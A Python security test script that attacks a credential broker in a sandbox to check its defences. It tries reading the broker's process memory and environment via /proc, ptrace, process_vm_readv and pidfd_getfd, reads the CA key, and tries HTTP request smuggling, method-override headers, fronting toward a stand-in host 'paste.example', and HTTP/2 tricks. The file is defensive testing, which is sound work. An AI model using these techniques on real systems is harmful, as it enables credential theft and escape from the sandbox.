#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
# Broker escapes: get a brokered credential's value, or have the broker put
# it where it does not belong. The call holds only placeholders (twph_ + 32
# hex); the test service (tests/lib/https_echo.py) answers with the path,
# the body's SHA-256 and the names of the headers that still held a
# placeholder, never a value: a placeholder the broker swapped is missing
# from that list. The verdict never prints a value, only whether one was
# reached.
#   broker.py ATTACK ARGS...   (see TABLE at the bottom)
import sys
sys.dont_write_bytecode = True  # (a call may not write here)
import ctypes
import hashlib
import json
import os
import re
import socket
import ssl

from _esc import blocked, ename, error, escaped, run, sysc

PH = re.compile(rb"twph_[0-9a-f]{32}")
SVC = ("10.20.1.10", 8443)  # tracker-agent, scope write, Authorization
WH = ("10.30.1.10", 8443)   # warehouse-reader, scope read, X-Api-Key
SYS_PTRACE = 101
SYS_PROCESS_VM_READV = 310
SYS_PIDFD_OPEN = 434
SYS_PIDFD_GETFD = 438
PTRACE_ATTACH = 16
PTRACE_DETACH = 17


def token(var="TRACKER_TOKEN"):
    t = os.environ.get(var, "")
    if not PH.fullmatch(t.encode()):
        error("%s is not a placeholder (%d chars)" % (var, len(t)))
    return t


def tls(dst, alpn=None, sni=None, verify=True):
    ctx = ssl.create_default_context(cafile=os.environ.get("SSL_CERT_FILE"))
    if not verify:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)
    raw = socket.create_connection(dst, timeout=10)
    # (an address: Python sends no SNI for it, as curl does not)
    return ctx.wrap_socket(raw, server_hostname=sni or dst[0])


def head(dst):
    return "%s:%d" % dst


class Answer:
    def __init__(self, status, headers, body):
        self.status, self.headers, self.body = status, headers, body

    def broker(self):
        """Written by the broker itself (a refusal), not by the service."""
        return self.headers.get("x-toolwall") == "broker"

    def echo(self):
        try:
            return json.loads(self.body)
        except ValueError:
            return {}

    def __str__(self):
        return "%d%s" % (self.status, " from the broker" if self.broker() else "")


def answers(s, n):
    """Up to N answers read from S; fewer when it closes."""
    f = s.makefile("rb")
    got = []
    try:
        for _ in range(n):
            line = f.readline(4096)
            if not line:
                break
            parts = line.split(None, 2)
            if len(parts) < 2 or not parts[0].startswith(b"HTTP/"):
                got.append(Answer(-1, {}, line))
                break
            hdrs = {}
            while True:
                h = f.readline(65536)
                if h in (b"\r\n", b"\n", b""):
                    break
                k, _, v = h.decode("latin-1").partition(":")
                hdrs[k.strip().lower()] = v.strip()
            body = f.read(int(hdrs.get("content-length", "0")))
            got.append(Answer(int(parts[1]), hdrs, body))
    except (OSError, ValueError):
        pass
    return got


def one(s, req):
    s.sendall(req.encode() if isinstance(req, str) else req)
    a = answers(s, 1)
    return a[0] if a else None


# ---- 1. the broker's process -------------------------------------------------

def _proc(pid, what):
    with open("/proc/%s/%s" % (pid, what), "rb") as f:
        return f.read()


def scan(comm):
    """Any process here named like the broker, or saying so in argv."""
    seen = []
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == os.getpid():
            continue
        try:
            c = _proc(p, "comm").strip()
            argv = _proc(p, "cmdline")
        except OSError:
            continue
        seen.append(c.decode(errors="replace"))
        if c == comm.encode() or b"broker" in argv:
            for what in ("environ", "maps"):
                try:
                    _proc(p, what)
                    escaped("the broker (pid %s here) lets this call read its %s" % (p, what))
                except OSError:
                    pass
            escaped("the broker is visible as pid %s (%s)" % (p, c.decode(errors="replace")))
    blocked("no broker among the %d processes of this PID namespace (%s)"
            % (len(seen), " ".join(sorted(set(seen)))))


def _not_it(pid, comm):
    """PID here is another process (the call's own PID namespace)."""
    try:
        c = _proc(pid, "comm").strip().decode(errors="replace")
    except OSError as e:
        return None if e.errno != 2 else "ENOENT"
    return None if c == comm else "pid %s here is %s, not the broker" % (pid, c)


def proc(pid, comm, what):
    """Read the broker's (host) pid's /proc WHAT, or attach to it."""
    other = _not_it(pid, comm)
    if other and other != "ENOENT":
        blocked(other + " (own PID namespace)")
    if what == "environ":
        data = _proc(pid, "environ")
        escaped("read the broker's environ (%d bytes)" % len(data))
    if what == "mem":
        regions = []
        for line in _proc(pid, "maps").decode().splitlines():
            a, b = line.split()[0].split("-")
            regions.append((int(a, 16), int(b, 16)))
        fd = os.open("/proc/%s/mem" % pid, os.O_RDONLY)
        for a, b in regions:
            try:
                if os.pread(fd, min(b - a, 4096), a):
                    escaped("read the broker's memory at %#x" % a)
            except OSError:
                pass
        blocked("/proc/%s/mem opened but no region readable" % pid)
    if what == "fd":
        names = os.listdir("/proc/%s/fd" % pid)
        escaped("listed the broker's %d descriptors" % len(names))
    if what == "ptrace":
        sysc(SYS_PTRACE, PTRACE_ATTACH, int(pid), 0, 0)
        sysc(SYS_PTRACE, PTRACE_DETACH, int(pid), 0, 0)
        escaped("ptrace attached to the broker")
    if what == "vmread":
        buf = ctypes.create_string_buffer(64)
        local = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 64)
        remote = (ctypes.c_void_p * 2)(0x400000, 64)
        sysc(SYS_PROCESS_VM_READV, int(pid), ctypes.addressof(local), 1,
             ctypes.addressof(remote), 1, 0)
        escaped("process_vm_readv read the broker's memory")
    if what == "getfd":
        pfd = sysc(SYS_PIDFD_OPEN, int(pid), 0)
        for n in range(3, 64):
            try:
                os.close(sysc(SYS_PIDFD_GETFD, pfd, n, 0))
                escaped("took the broker's descriptor %d" % n)
            except OSError:
                pass
        blocked("pidfd_open worked, pidfd_getfd took nothing")
    error("unknown proc attack " + what)


# ---- 2. the broker's files -----------------------------------------------------

def files(*paths):
    """Read the CA key or list the broker's state."""
    why = []
    for p in paths:
        try:
            if os.path.isdir(p):
                escaped("listed %s (%d entries)" % (p, len(os.listdir(p))))
            with open(p, "rb") as f:
                escaped("read %s (%d bytes)" % (p, len(f.read())))
        except OSError as e:
            why.append("%s: %s" % (p, ename(e.errno)))
    blocked("; ".join(why))


# ---- 3. straight to the broker's port ------------------------------------------

def direct(host, port, phfile=None):
    """PHFILE: a placeholder of a running call (for a process outside toolwall)."""
    dst = (host, int(port))
    ph = open(phfile).read().strip() if phfile else token()
    req = ("GET /direct HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n"
           % (head(SVC), ph))
    try:
        s = tls(dst, verify=False)
    except (ssl.SSLError, ConnectionError, socket.timeout) as e:
        blocked("%s:%s: no TLS session (%s)" % (host, port, type(e).__name__))
    try:
        a = one(s, req)
    except (ssl.SSLError, ConnectionError) as e:
        blocked("%s:%s: closed (%s)" % (host, port, type(e).__name__))
    if a is None:
        blocked("%s:%s: closed without an answer" % (host, port))
    if a.broker() or a.status >= 400:
        blocked("%s:%s: %s" % (host, port, a))
    if "Authorization" not in a.echo().get("placeholder_in", []):
        escaped("%s:%s forwarded the value to the service" % (host, port))
    blocked("%s:%s forwarded the placeholder unchanged" % (host, port))


# ---- 4. another call's placeholder ----------------------------------------------

def foreign(path):
    ph = open(path).read().strip()
    if not PH.fullmatch(ph.encode()) or ph == token():
        error("no other call's placeholder in %s" % path)
    s = tls(SVC)
    a = one(s, "GET /foreign HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n"
            % (head(SVC), ph))
    if a is None or a.broker():
        blocked("refused: %s" % a)
    if "Authorization" in a.echo().get("placeholder_in", []):
        blocked("the service got the other call's placeholder, not the value")
    escaped("the broker swapped another call's placeholder (%s)" % a)


# ---- 5. the placeholder outside the template header -----------------------------

def where(kind):
    ph = token()
    h = "Host: %s\r\n" % head(SVC)
    body = ""
    path = "/where-" + kind
    if kind == "query":
        path += "?token=" + ph
    elif kind == "path":
        path += "/" + ph
    elif kind == "body":
        body = "token=%s&note=1" % ph
    elif kind == "cookie":
        h += "Cookie: session=%s\r\n" % ph
    elif kind == "auth2":  # the first Authorization is not the template's
        h += "Authorization: Bearer none\r\nAuthorization: Bearer %s\r\n" % ph
    elif kind == "proxyauth":
        h += "Proxy-Authorization: Bearer %s\r\n" % ph
    else:
        error("unknown placement " + kind)
    method = "POST" if body else "GET"
    if body:
        h += "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n" % len(body)
    a = one(tls(SVC), "%s %s HTTP/1.1\r\n%s\r\n%s" % (method, path, h, body))
    if a is None or a.broker():
        blocked("refused: %s" % a)
    e = a.echo()
    if kind in ("query", "path"):
        if e.get("path") == path:
            blocked("the service got the %s with the placeholder as sent" % kind)
        escaped("the %s reached the service changed" % kind)
    if kind == "body":
        if e.get("body_sha256") == hashlib.sha256(body.encode()).hexdigest():
            blocked("the service got the body as sent (same SHA-256)")
        escaped("the body reached the service changed")
    name = {"cookie": "Cookie", "auth2": "Authorization",
            "proxyauth": "Proxy-Authorization"}[kind]
    if name in e.get("placeholder_in", []):
        blocked("the service got the placeholder in %s" % name)
    if name not in e.get("header_names", []):
        blocked("%s did not reach the service" % name)
    escaped("%s reached the service without its placeholder" % name)


# ---- 6. the read scope -----------------------------------------------------------

def scope(kind):
    ph = token("WAREHOUSE_TOKEN")
    h = "Host: %s\r\nX-Api-Key: %s\r\n" % (head(WH), ph)
    post = "%s /scope-%s HTTP/1.1\r\n" + h + "Content-Length: 3\r\n\r\nx=1"
    reqs = {
        "lowerpost": post % ("post", kind),
        "patch": post % ("PATCH", kind),
        "foo": post % ("FOO", kind),
        # a GET asking to be taken for a write: in a header, in the query
        "override": "GET /scope-override HTTP/1.1\r\n" + h +
                    "X-HTTP-Method-Override: POST\r\n\r\n",
        "overridelc": "GET /scope-overridelc HTTP/1.1\r\n" + h +
                      "x-method-override: DELETE\r\n\r\n",
        "overrideq": "GET /scope-overrideq?a=1&_method=DELETE HTTP/1.1\r\n" + h + "\r\n",
        # as the source reads them: '_' for '-' (CGI and WSGI servers see
        # the same variable), the parameter's name percent-encoded
        "overrideu": "GET /scope-overrideu HTTP/1.1\r\n" + h +
                     "X_HTTP_Method_Override: PUT\r\n\r\n",
        "overridepct": "GET /scope-overridepct?%5Fmethod%3DDELETE HTTP/1.1\r\n" + h + "\r\n",
        # one TLS write: a GET the scope allows, then a POST it does not
        "pipeline": "GET /scope-pipe-get HTTP/1.1\r\n" + h + "\r\n" +
                    post % ("POST", "pipe-post"),
    }
    if kind not in reqs and kind != "pipecut":
        error("unknown scope attack " + kind)
    s = tls(WH)
    if kind == "pipecut":
        # a GET being answered (50 MB), then a POST on the same connection
        s.sendall(("GET /big?n=50000000 HTTP/1.1\r\n" + h + "\r\n").encode())
        if not s.recv(4096).startswith(b"HTTP/1.1 200"):
            error("the GET before the POST was not answered")
        s.sendall((post % ("POST", "cut-post")).encode())
        try:
            while s.recv(65536):
                pass
        except OSError:
            pass
        blocked("the POST behind a GET being answered: the connection closed")
    s.sendall(reqs[kind].encode())
    got = answers(s, 2 if kind == "pipeline" else 1)
    last = got[-1] if got else None
    if kind == "pipeline":
        if len(got) == 2 and got[0].status == 200 and last.broker() and last.status == 403:
            blocked("the GET answered 200, the pipelined POST 403 from the broker")
        if len(got) == 2 and not last.broker():
            escaped("the pipelined POST reached the service (%s)" % last)
        # (refused at the POST's head, the GET before it, not yet sent,
        # goes with it: nothing is forwarded when anything is refused)
        blocked("the pipelined POST got no answer from the service (%s)"
                % ", ".join(str(a) for a in got))
    if last is None:
        blocked("%s: closed without an answer" % kind)
    if last.broker():
        blocked("%s: %s" % (kind, last))
    escaped("%s reached the service (%s)" % (kind, last))


# ---- 7. fronting -------------------------------------------------------------------

def front(kind):
    ph = token()
    auth = "Authorization: Bearer %s\r\n" % ph
    s = tls(SVC)
    if kind == "keepalive":
        first = one(s, "GET /front-ka1 HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (head(SVC), auth))
        if first is None or first.status != 200:
            error("the first request on the connection: %s" % first)
        a = one(s, "GET /front-ka2 HTTP/1.1\r\nHost: paste.example\r\n%s\r\n" % auth)
    elif kind == "absolute":  # the target names paste.example, the Host the service
        a = one(s, "GET https://paste.example/front-abs HTTP/1.1\r\nHost: %s\r\n%s\r\n"
                % (head(SVC), auth))
    elif kind == "absolute-host":  # both name paste.example
        a = one(s, "GET https://paste.example/front-abs2 HTTP/1.1\r\nHost: paste.example\r\n%s\r\n"
                % auth)
    elif kind == "userinfo":  # the service's address as userinfo of another host
        a = one(s, "GET https://%s@paste.example/front-ui HTTP/1.1\r\nHost: %s\r\n%s\r\n"
                % (head(SVC), head(SVC), auth))
    elif kind == "hostph":  # a Host the refusal quotes: the record must not
        a = one(s, "GET /front-hph HTTP/1.1\r\nHost: %s.example\r\n%s\r\n" % (ph, auth))
    elif kind == "sniph":  # the same in the TLS server name
        s = tls(SVC, sni=ph + ".example", verify=False)
        a = one(s, "GET /front-sph HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (head(SVC), auth))
    else:
        error("unknown fronting " + kind)
    if a is None:
        blocked("%s: closed without an answer" % kind)
    if a.broker():
        blocked("%s: %s (%s)" % (kind, a, a.echo().get("reason", "")))
    escaped("%s: forwarded to the service with the value (%s, path %s)"
            % (kind, a, a.echo().get("path")))


# ---- 8. HTTP/2 ----------------------------------------------------------------------

PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def h2(kind):
    ph = token()
    if kind == "alpn":
        try:
            s = tls(SVC, alpn=["h2"])
        except ssl.SSLError as e:
            blocked("no TLS session offering only h2 (%s)" % e.reason)
        if s.selected_alpn_protocol() == "h2":
            escaped("the broker chose h2")
        what = "no ALPN protocol chosen"
    elif kind == "preface":
        s = tls(SVC, alpn=["h2", "http/1.1"])
        if s.selected_alpn_protocol() == "h2":
            escaped("the broker chose h2")
        what = "ALPN %s" % s.selected_alpn_protocol()
    else:
        error("unknown h2 attack " + kind)
    # the h2 preface, then a request line the service would answer
    try:
        a = one(s, PREFACE + "GET /h2-%s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n"
                % (kind, head(SVC), ph))
    except (ssl.SSLError, ConnectionError) as e:
        blocked("%s; the preface: closed (%s)" % (what, type(e).__name__))
    if a is None:
        blocked("%s; the preface: closed without an answer" % what)
    if a.broker():
        blocked("%s; the preface: %s" % (what, a))
    escaped("%s; the preface reached the service (%s)" % (what, a))


# ---- 9. plain HTTP to the TLS port ------------------------------------------------------

def plain():
    s = socket.create_connection(SVC, timeout=10)
    try:
        a = one(s, "GET /plain HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n"
                % (head(SVC), token()))
    except ConnectionError as e:
        blocked("plain HTTP to a TLS service: closed (%s)" % type(e).__name__)
    if a is None or a.status < 0:
        blocked("plain HTTP to a TLS service: closed without an HTTP answer")
    if a.broker():
        blocked("plain HTTP to a TLS service: %s" % a)
    escaped("plain HTTP reached the service (%s)" % a)


TABLE = {
    "scan": scan,          # scan BROKER-COMM
    "proc": proc,          # proc PID COMM environ|mem|fd|ptrace|vmread|getfd
    "files": files,        # files PATH...
    "direct": direct,      # direct HOST PORT [PLACEHOLDER-FILE]
    "foreign": foreign,    # foreign FILE-WITH-A-PLACEHOLDER
    "where": where,        # where query|path|body|cookie|auth2|proxyauth
    "scope": scope,        # scope lowerpost|patch|foo|override|overridelc|overrideq|overrideu|overridepct|pipeline|pipecut
    "front": front,        # front keepalive|absolute|absolute-host|userinfo|hostph|sniph
    "h2": h2,              # h2 alpn|preface
    "plain": plain,        # plain
}

if __name__ == "__main__":
    run(TABLE)
